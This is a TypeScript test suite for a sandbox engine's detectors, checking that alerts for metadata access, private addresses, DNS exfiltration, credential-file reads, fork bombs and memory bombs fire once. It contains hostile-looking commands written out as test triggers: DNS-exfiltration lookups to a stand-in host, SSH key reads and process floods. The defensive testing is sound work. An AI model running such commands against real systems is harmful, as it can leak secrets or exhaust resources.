/**
 * Detectors (docs/records.md#detectors): each alert fires once for its trigger, not for benign
 * activity, and a tenant's policy turns detectors off. Real sandboxes; the metadata and private
 * address cases use the test internet (its canaries on 169.254.77.77 and 10.254.254.1).
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Caller } from '../src/engine-api.js';
import { Engine } from '../src/engine.js';
import type { ExecResult } from '../src/types.js';
import { startTestInternet, type TestInternet } from './net-fixture.js';
import { closeAndClean, removeDataDir, tempDataDir, TEMPLATES_DIR } from './support.js';

const ADMIN: Caller = { tenant: null };
const t: Caller = { tenant: 'det' };

let net: TestInternet;
let engine: Engine;
let dataDir: string;
const ids: string[] = [];

const alerts = (id: string, type?: string) => engine.listEvents(ADMIN, { sandbox: id, limit: 10_000 }).filter((e) => e.type.startsWith('alert.') && (!type || e.type === type));

async function sh(id: string, script: string, timeoutSeconds = 30): Promise<ExecResult> {
  return engine.exec(t, id, { cmd: ['/bin/sh', '-c', script], timeoutSeconds });
}

async function waitFor(fn: () => boolean, what: string, ms = 5000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!fn()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

before(async () => {
  net = await startTestInternet();
  dataDir = tempDataDir('detectors');
  engine = await Engine.open({ dataDir, templatesDir: TEMPLATES_DIR, dnsUpstream: net.dnsUpstream });
  engine.createTenant(ADMIN, 'det');
});

after(async () => {
  try {
    if (engine) await closeAndClean(engine, dataDir, ids);
  } finally {
    if (dataDir) removeDataDir(dataDir);
    await net?.close();
  }
});

describe('detectors', () => {
  let id: string;
  before(async () => {
    const s = await engine.createSandbox(t, {
      template: 'base', timeoutSeconds: 120, resources: { pids: 48 },
      network: { allow: ['a.test', 'private.test', 'metadata.test'] },
    });
    ids.push(s.id);
    id = s.id;
  });

  test('benign work raises nothing', async () => {
    await engine.writeFile(t, id, '/work/notes.txt', Buffer.from('hi'));
    await engine.readFile(t, id, '/work/notes.txt');
    const r = await sh(id, 'curl -sS --max-time 5 http://a.test/ >/dev/null && echo ok; ls / >/dev/null');
    assert.equal(r.stdout.trim(), 'ok', r.stderr);
    assert.deepEqual(alerts(id), []);
  });

  test('metadata and private addresses: one alert each', async () => {
    await sh(id, 'for i in 1 2 3; do curl -sS --max-time 5 http://metadata.test/; curl -sS --max-time 5 http://private.test/; done; true');
    await waitFor(() => alerts(id, 'alert.metadata_access').length === 1 && alerts(id, 'alert.private_address').length === 1, 'two alerts');
    assert.deepEqual(await net.canaryHits(), [], 'a canary was reached');
    assert.equal(alerts(id, 'alert.metadata_access')[0]!.data.address, '169.254.77.77');
    assert.equal(alerts(id, 'alert.private_address')[0]!.data.address, '10.254.254.1');
    assert.equal(alerts(id, 'alert.metadata_access').length, 1, 'deduplicated');
  });

  test('DNS exfiltration signs', async () => {
    const label = 'a'.repeat(60);
    await sh(id, `for i in 1 2; do getent hosts ${label}$i.${label}.x9f3k2q8z7w1v5.exfil.test; done; true`);
    await waitFor(() => alerts(id, 'alert.dns_exfiltration').length === 1, 'dns alert');
  });

  test('credential-like files read through the files API', async () => {
    await engine.writeFile(t, id, '/root/.ssh/id_rsa', Buffer.from('-----BEGIN KEY-----'));
    await engine.readFile(t, id, '/root/.ssh/id_rsa');
    await engine.readFile(t, id, '/root/.ssh/id_rsa');
    const a = alerts(id, 'alert.credential_read');
    assert.equal(a.length, 1);
    assert.equal(a[0]!.data.path, '/root/.ssh/id_rsa');
  });

  test('a bounded process flood raises fork_bomb once', async () => {
    await sh(id, 'for i in $(seq 80); do sleep 30 & done 2>/dev/null; kill -9 $(jobs -p) 2>/dev/null; true');
    await sh(id, 'for i in $(seq 80); do sleep 30 & done 2>/dev/null; kill -9 $(jobs -p) 2>/dev/null; true');
    assert.ok(engine.listEvents(ADMIN, { sandbox: id, type: 'limit.pids' }).length >= 1);
    assert.equal(alerts(id, 'alert.fork_bomb').length, 1);
  });

  test('repeated OOM kills raise memory_bomb once', async () => {
    const s = await engine.createSandbox(t, { template: 'base', timeoutSeconds: 60, resources: { memoryMiB: 64 } });
    ids.push(s.id);
    const hog = () => engine.exec(t, s.id, { cmd: ['python3', '-c', 'b = bytearray(256 << 20)'], timeoutSeconds: 30 });
    assert.equal((await hog()).reason, 'oom');
    assert.deepEqual(alerts(s.id, 'alert.memory_bomb'), [], 'one OOM is not a bomb');
    await hog();
    await hog();
    assert.equal(alerts(s.id, 'alert.memory_bomb').length, 1);
    await engine.killSandbox(t, s.id);
  });

  test('repeated policy denials; a tenant can tune and disable detectors', async () => {
    engine.setPolicy(ADMIN, 'det', {
      network: { allowCeiling: ['*.test'] },
      detectors: { disabled: ['credential_read'], repeatedDenials: { count: 3, windowSeconds: 60 } },
    });
    for (let i = 0; i < 5; i++) await assert.rejects(engine.updateNetwork(t, id, { allow: ['pypi.org'] }), /policy/);
    assert.equal(alerts(id, 'alert.repeated_denials').length, 1);
    await engine.writeFile(t, id, '/work/.env', Buffer.from('TOKEN=x'));
    await engine.readFile(t, id, '/work/.env');
    assert.equal(alerts(id, 'alert.credential_read').length, 1, 'disabled: no new alert');
    const chain = engine.events.verify();
    assert.ok(chain.ok, 'alerts are part of the hash chain');
  });
});
